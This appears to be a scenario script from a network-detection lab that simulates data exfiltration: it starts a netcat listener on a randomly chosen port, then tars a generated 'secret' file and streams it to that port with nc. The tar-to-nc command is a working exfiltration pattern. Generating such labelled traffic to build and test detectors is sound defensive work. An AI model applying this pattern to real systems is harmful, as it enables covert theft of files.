# SPDX-License-Identifier: MIT
# label: exfil
# source: lab-nc
# needs: nc tar
# seconds: 90
# An archive leaves on a plain connection to an odd port.
. $lab/victims.sh

servers() {
	_port=$(choose 4444 9001 53 443)
	serve t sh -c 'nc -n -l -p "$1" >/dev/null' sh "$_port"
	listening t "$_port"
}

scenario() {
	_mega=$(choose 6 12 18)
	setting options "$_mega MB to port $_port"
	blob "$work/secret" $((_mega * 1000000))
	sleep 5
	# shellcheck disable=SC2016
	attack d t tcp "$_port" -- timeout 70 sh -c 'tar c "$1" | nc -n -q 1 "$2" "$3"' sh \
		"$work/secret" "$(addr t)" "$_port"
	sleep 5
}
